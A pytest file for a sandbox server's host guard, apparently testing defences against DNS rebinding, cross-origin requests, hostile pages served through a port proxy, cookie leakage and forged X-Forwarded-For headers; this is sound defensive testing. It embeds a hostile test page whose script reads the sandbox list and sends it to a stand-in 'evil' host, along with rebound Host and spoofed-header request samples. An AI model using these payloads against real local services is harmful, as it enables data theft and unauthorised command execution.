"""A server without API keys answers local clients, never a web page (server/host_guard.py).

Before the guard, a page that had its own name resolve to 127.0.0.1 (DNS rebinding) read and
drove the whole keyless API -- ``Host: evil.example`` was served like ``127.0.0.1`` -- and any
page could open the exec WebSocket of a sandbox. Checked both ways: local clients (the SDK,
``localhost``, ``[::1]``, a page of the server itself) go on working. Another user of the
host is refused too: only the server's own user and root are served without a key. What a sandbox
serves, through the server's port proxy or a forwarded port, is never such a page.
"""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

from corral import InvalidSpec, Sandbox
from corral.server.config import ServerConfig

from .server_fixtures import KEYS, ServerProcess, free_port, status_as_user

EVIL = "evil.example"


@pytest.fixture(scope="module")
def keyless(state_dir: Path) -> Iterator[ServerProcess]:
    with ServerProcess(state_dir / "srv-browsers") as srv:
        yield srv


def test_a_rebound_name_is_refused_and_makes_nothing(keyless: ServerProcess) -> None:
    with keyless.client() as http:
        rebound = {"host": f"{EVIL}:{keyless.port}"}
        listed = http.get("/v1/sandboxes", headers=rebound)
        assert (listed.status_code, listed.json()["error"]) == (421, "misdirected_request"), listed.text
        made = http.post("/v1/sandboxes", json={"network": "allow", "allow": [EVIL]}, headers=rebound)
        assert made.status_code == 421, made.text
        for host in (f"127.0.0.1.{EVIL}", f"localhost.{EVIL}:{keyless.port}", f"localhost:{keyless.port}@{EVIL}",
                     "", f"[::1].{EVIL}"):
            assert http.get("/v1/sandboxes", headers={"host": host}).status_code == 421, host
        assert http.get("/v1/sandboxes").json()["sandboxes"] == []  # nothing was made
        for hosts in ((f"127.0.0.1:{keyless.port}", EVIL), (EVIL, f"127.0.0.1:{keyless.port}")):
            with socket.create_connection(("127.0.0.1", keyless.port), timeout=10) as sock:  # two Host headers
                sock.sendall(f"GET /v1/sandboxes HTTP/1.1\r\nHost: {hosts[0]}\r\nHost: {hosts[1]}\r\n\r\n".encode())
                assert sock.recv(4096).startswith(b"HTTP/1.1 421 "), hosts
        for host in (f"127.0.0.1:{keyless.port}", f"localhost:{keyless.port}", f"[::1]:{keyless.port}", "localhost"):
            assert http.get("/v1/sandboxes", headers={"host": host}).status_code == 200, host


def test_the_server_serves_no_page_that_runs_a_script_from_elsewhere(keyless: ServerProcess) -> None:
    """A page of the server's own origin may drive its API (below): FastAPI's /docs and /redoc
    pages loaded their scripts from a CDN, which would then have driven it. The OpenAPI
    document stays, for any tool to read."""
    with keyless.client() as http:
        for page in ("/docs", "/redoc", "/docs/oauth2-redirect"):
            assert http.get(page).status_code == 404, page
        document = http.get("/openapi.json")
        assert document.status_code == 200 and "/v1/sandboxes" in document.json()["paths"]
        assert "text/html" not in document.headers["content-type"]


def test_a_foreign_page_cannot_run_a_command_a_local_one_can(keyless: ServerProcess) -> None:
    with Sandbox.create(url=keyless.url) as sb, keyless.client() as http:  # the SDK: no Origin, served
        exec_url = f"/v1/sandboxes/{sb.id}/exec"
        for origin in (f"http://{EVIL}", "null", f"http://127.0.0.1.{EVIL}", f"https://{EVIL}:{keyless.port}"):
            refused = http.post(exec_url, json={"cmd": "touch /tmp/ran"}, headers={"origin": origin})
            assert (refused.status_code, refused.json()["error"]) == (403, "forbidden_origin"), refused.text
        # pages on the loopback that are not the server's: another local site, a sandbox's forwarded
        # port (``sb.ports.expose`` of a library sandbox: another loopback port; before: served, as
        # any loopback page was), the server reached by another name
        forwarded = free_port()
        for origin in ("http://localhost:5173", f"http://127.0.0.1:{forwarded}", f"http://localhost:{keyless.port}",
                       f"https://127.0.0.1:{keyless.port}", f"http://127.0.0.1:{keyless.port}/docs"):
            refused = http.post(exec_url, json={"cmd": "touch /tmp/ran"}, headers={"origin": origin})
            assert (refused.status_code, refused.json().get("error")) == (403, "forbidden_origin"), (origin, refused.text)
        assert not sb.files.exists("/tmp/ran")
        for host, origin in ((f"127.0.0.1:{keyless.port}", f"http://127.0.0.1:{keyless.port}"),
                             (f"localhost:{keyless.port}", f"http://LOCALHOST:{keyless.port}"),
                             ("localhost", "http://localhost:80")):  # the server's own origin
            own_page = http.post(exec_url, json={"cmd": "echo ok"}, headers={"origin": origin, "host": host})
            assert own_page.json()["stdout"] == "ok\n", (host, origin)

        ws_url = keyless.url.replace("http", "ws") + f"/v1/sandboxes/{sb.id}/exec/stream"
        with pytest.raises(InvalidStatus) as refused_ws:
            connect(ws_url, origin=f"http://{EVIL}", open_timeout=10)  # type: ignore[arg-type]
        assert refused_ws.value.response.status_code == 403
        with pytest.raises(InvalidStatus) as refused_ws:  # a sandbox's forwarded page: not the server's
            connect(ws_url, origin=f"http://127.0.0.1:{forwarded}", open_timeout=10)  # type: ignore[arg-type]
        assert refused_ws.value.response.status_code == 403
        with connect(ws_url, origin=keyless.url, open_timeout=10) as ws:  # type: ignore[arg-type]
            ws.send(json.dumps({"cmd": "echo own page", "timeout": 10}))
            frames = [json.loads(ws.recv(timeout=10)) for _ in range(3)]
        assert {"type": "stdout", "data": "own page\n"}.items() <= frames[1].items(), frames
        with connect(ws_url, open_timeout=10) as ws:
            ws.send(json.dumps({"cmd": "echo streamed", "timeout": 10}))
            frames = [json.loads(ws.recv(timeout=10)) for _ in range(3)]
        assert {"type": "stdout", "data": "streamed\n"}.items() <= frames[1].items(), frames
        assert not sb.files.exists("/tmp/ran")


def _once_served(get: Callable[[], httpx.Response], seconds: float = 10) -> httpx.Response:
    """``get()``'s first 200 (the sandbox's app is listening), polled for at most ``seconds``."""
    deadline = time.monotonic() + seconds
    while (answer := get()).status_code != 200 and time.monotonic() < deadline:
        time.sleep(0.1)
    assert answer.status_code == 200, answer.text
    return answer


HOSTILE_APP = """
import http.server

class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"<script>fetch('/v1/sandboxes').then(r => r.text()).then(t => fetch('//evil/?' + t))</script>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Service-Worker-Allowed", "/")
        self.send_header("Clear-Site-Data", '"cookies", "storage"')
        self.send_header("Content-Security-Policy", "img-src 'self'")
        self.send_header("Set-Cookie", "a=1; Expires=Wed, 21 Oct 2037 07:28:00 GMT; Path=/")
        self.send_header("Set-Cookie", "b=2; Domain=127.0.0.1; Path=/api; HttpOnly")
        self.send_header("Set-Cookie", "c=3")
        self.send_header("X-Got-Cookie", self.headers.get("Cookie", "-"))
        self.end_headers()
        self.wfile.write(body)

http.server.ThreadingHTTPServer(("127.0.0.1", 8000), Page).serve_forever()
"""


def test_a_sandboxs_page_through_the_proxy_is_sandboxed_not_the_servers(keyless: ServerProcess) -> None:
    """The proxy serves a sandbox's answers on the server's own origin: a page shown from there was
    same-origin with the API (its script read the sandbox list, and could run commands in the
    user's other sandboxes and register a service worker over the whole origin). Now every answer
    is a sandboxed page (an opaque origin: its requests say ``Origin: null``, refused), the
    sandbox's own policy kept beside, and headers acting on the whole origin dropped."""
    with Sandbox.create(url=keyless.url) as sb, keyless.client() as http:
        sb.files.write("/tmp/app.py", HOSTILE_APP)
        sb.commands.run("exec python3 /tmp/app.py", background=True)
        page_url = f"/v1/sandboxes/{sb.id}/ports/8000/"
        answer = _once_served(lambda: http.get(page_url))
        assert b"<script>" in answer.content
        policies = answer.headers.get_list("content-security-policy")
        sandboxing = [p for p in policies if p.startswith("sandbox")]
        assert len(sandboxing) == 1 and "allow-scripts" in sandboxing[0], policies
        assert "allow-same-origin" not in sandboxing[0] and "allow-top-navigation" not in sandboxing[0]
        assert "img-src 'self'" in policies  # the sandbox's own policy still applies beside
        assert "service-worker-allowed" not in answer.headers and "clear-site-data" not in answer.headers
        # its cookies are its own: renamed, below this port's path, no Domain (cookies ignore ports:
        # before, one set here reached every local app on 127.0.0.1), and each its own header
        mine, where = f"corral-8000-{sb.id}-", f"/v1/sandboxes/{sb.id}/ports/8000"
        assert answer.headers.get_list("set-cookie") == [
            f"{mine}a=1; Expires=Wed, 21 Oct 2037 07:28:00 GMT; Path={where}/",
            f"{mine}b=2; Path={where}/api; HttpOnly", f"{mine}c=3; Path={where}/"]
        # of the cookies a browser sends with a request here (every 127.0.0.1 app's: a Jupyter
        # login, say; before, all went to the sandbox), only the sandbox's own go, under their names
        sent = {"cookie": f"jupyter-login=secret; {mine}a=1; corral-8001-{sb.id}-x=2; {mine}b=2"}
        assert http.get(page_url, headers=sent).headers["x-got-cookie"] == "a=1; b=2"
        assert http.get(page_url, headers={"cookie": "jupyter-login=secret"}).headers["x-got-cookie"] == "-"
        # what the page's script sends from its opaque origin is refused; the same from the
        # server's own origin is served
        as_page = http.get("/v1/sandboxes", headers={"origin": "null"})
        assert (as_page.status_code, as_page.json()["error"]) == (403, "forbidden_origin")
        assert http.get("/v1/sandboxes", headers={"origin": keyless.url}).status_code == 200


ORIGIN_APP = """
import base64, hashlib, http.server, json, time

class App(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        if self.path == "/ws":  # one WebSocket message: "hi " and the cookies it got
            key = self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            self.send_header("Sec-WebSocket-Accept", base64.b64encode(hashlib.sha1(key.encode()).digest()).decode())
            self.end_headers()
            said = ("hi " + self.headers.get("Cookie", "-")).encode()
            self.wfile.write(bytes([0x81, len(said)]) + said)
            self.wfile.flush()
            time.sleep(2)
            return
        body = json.dumps({"path": self.path, "host": self.headers["Host"], "cookie": self.headers["Cookie"]}).encode()
        self.send_response(200)
        self.send_header("Set-Cookie", "s=1; Domain=localhost; Path=/")
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

http.server.ThreadingHTTPServer(("127.0.0.1", 8000), App).serve_forever()
"""


def _websocket_hello(port: int, host: str, origin: str, path: str = "/ws", cookie: str = "") -> bytes:
    """The raw answer to a WebSocket handshake for ``path`` sent to the server as ``Host: host``."""
    request = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nOrigin: {origin}\r\nUpgrade: websocket\r\n"
               "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
               + (f"Cookie: {cookie}\r\n" if cookie else "") + "\r\n")
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(request.encode())
        answer = b""
        while b"\x81" not in answer.partition(b"\r\n\r\n")[2] and len(answer) < 65536:
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
    return answer


def test_a_sandbox_port_has_an_origin_of_its_own_on_a_keyless_server(keyless: ServerProcess) -> None:
    """``http://PORT-ID.localhost:SERVERPORT/`` (browsers resolve ``*.localhost`` to the loopback) is
    the port proxy on an origin that is neither the API's nor another port's: served as the
    sandbox sent it (its own fetches, module scripts and WebSockets work there), every path the
    sandbox's, and its pages refused by the API and by other ports."""
    with Sandbox.create(url=keyless.url) as sb, Sandbox.create(url=keyless.url) as other, keyless.client() as http:
        sb.files.write("/tmp/app.py", ORIGIN_APP)
        sb.commands.run("exec python3 /tmp/app.py", background=True)
        exposed = sb.ports.expose(8000)
        own = f"8000-{sb.id}.localhost:{keyless.port}"
        assert exposed.browser_url == f"http://{own}/"
        answer = _once_served(lambda: http.get("/", headers={"host": own}))
        assert answer.json() == {"path": "/", "host": "127.0.0.1:8000", "cookie": None}, answer.text
        assert "content-security-policy" not in answer.headers  # its own origin: not sandboxed
        # its cookies as it set them, but host-only (Domain=localhost would reach every *.localhost
        # origin and localhost itself), and the browser's cookies for this host go to it whole
        assert answer.headers.get_list("set-cookie") == ["s=1; Path=/"]
        assert http.get("/", headers={"host": own, "cookie": "s=1; t=2"}).json()["cookie"] == "s=1; t=2"
        # every path under that name is the sandbox's: the API is not there
        assert http.get("/v1/sandboxes", headers={"host": own.upper()}).json()["path"] == "/v1/sandboxes"
        assert http.get("/a?b=c", headers={"host": own, "origin": f"http://{own}"}).json()["path"] == "/a?b=c"
        # its pages reach neither the API nor another sandbox's or port's origin
        refused = http.get("/v1/sandboxes", headers={"origin": f"http://{own}"})
        assert (refused.status_code, refused.json()["error"]) == (403, "forbidden_origin")
        for host in (f"8000-{other.id}.localhost:{keyless.port}", f"8001-{sb.id}.localhost:{keyless.port}"):
            assert http.get("/", headers={"host": host, "origin": f"http://{own}"}).status_code == 403, host
        assert http.get("/", headers={"host": f"8000-sb-0000000000000000.localhost:{keyless.port}"}).status_code == 404
        assert http.get("/", headers={"host": f"99999-{sb.id}.localhost:{keyless.port}"}).status_code == 400
        # a WebSocket (a dev server's reload channel) on its own origin, and not from another
        hello = _websocket_hello(keyless.port, own, f"http://{own}", cookie="s=1")
        assert hello.startswith(b"HTTP/1.1 101") and hello.endswith(b"hi s=1"), hello
        assert b" 403 " in _websocket_hello(keyless.port, own, keyless.url).split(b"\r\n")[0]
        # the path form's WebSocket: of the browser's cookies, only the sandbox's own go
        server_host = f"127.0.0.1:{keyless.port}"
        hello = _websocket_hello(keyless.port, server_host, keyless.url, f"/v1/sandboxes/{sb.id}/ports/8000/ws",
                                 cookie=f"jupyter-login=secret; corral-8000-{sb.id}-a=1")
        assert hello.startswith(b"HTTP/1.1 101") and hello.endswith(b"hi a=1"), hello
        # the path form is still there, sandboxed (for clients that cannot resolve *.localhost)
        assert http.get(exposed.url.removeprefix(keyless.url)).headers["content-security-policy"].startswith("sandbox")


def test_another_user_of_the_host_is_refused(keyless: ServerProcess) -> None:
    with Sandbox.create(url=keyless.url) as sb:  # root's: served
        listing = f"GET /v1/sandboxes HTTP/1.1\r\nHost: 127.0.0.1:{keyless.port}\r\n\r\n".encode()
        assert status_as_user(0, keyless.port, listing) == 200
        assert status_as_user(65534, keyless.port, listing) == 403
        body = b'{"cmd": "touch /tmp/ran"}'
        run = (f"POST /v1/sandboxes/{sb.id}/exec HTTP/1.1\r\nHost: 127.0.0.1:{keyless.port}\r\n"
               f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body
        assert status_as_user(1000, keyless.port, run) == 403
        # naming root's own connection as the client (uvicorn believes X-Forwarded-For from 127.0.0.1)
        # makes no difference: the guard asks about the connection the request came on
        with socket.create_connection(("127.0.0.1", keyless.port)) as roots:
            forged = f"X-Forwarded-For: 127.0.0.1:{roots.getsockname()[1]}\r\n\r\n".encode()
            assert status_as_user(65534, keyless.port, listing.replace(b"\r\n\r\n", b"\r\n" + forged)) == 403
            assert status_as_user(1000, keyless.port, run.replace(b"\r\n\r\n", b"\r\n" + forged, 1)) == 403
        assert not sb.files.exists("/tmp/ran")


def test_a_listed_local_user_is_served_and_a_bad_one_is_a_clear_error(state_dir: Path) -> None:
    listing = b"GET /v1/sandboxes HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    with ServerProcess(state_dir / "srv-browsers-users", "--local-user", "nobody") as srv:
        assert status_as_user(65534, srv.port, listing) == 200
        assert status_as_user(1000, srv.port, listing) == 403
    for bad in ({"local_users": ["no-such-user-here"]}, {"local_users": [-1]}, {"local_users": [True]}):
        with pytest.raises(InvalidSpec, match="local_users"):
            ServerConfig(**bad).validate()  # type: ignore[arg-type]
    with pytest.raises(InvalidSpec, match="a key is what lets a user in"):
        ServerConfig(local_users=[65534], key_digests={"x" * 64: "alice"}).validate()


def test_with_api_keys_any_name_reaches_the_server(state_dir: Path) -> None:
    with ServerProcess(state_dir / "srv-browsers-keys", keys=KEYS) as srv, srv.client("alice") as http:
        assert http.get("/v1/sandboxes", headers={"host": f"sandboxes.example:{srv.port}"}).status_code == 200
        assert http.get("/v1/sandboxes", headers={"host": EVIL}).status_code == 200
        assert httpx.get(srv.url + "/v1/sandboxes", headers={"host": EVIL}).status_code == 401  # the key decides
        listing = f"GET /v1/sandboxes HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {KEYS['bob']}\r\n\r\n"
        assert status_as_user(65534, srv.port, listing.encode()) == 200  # another user, with a key
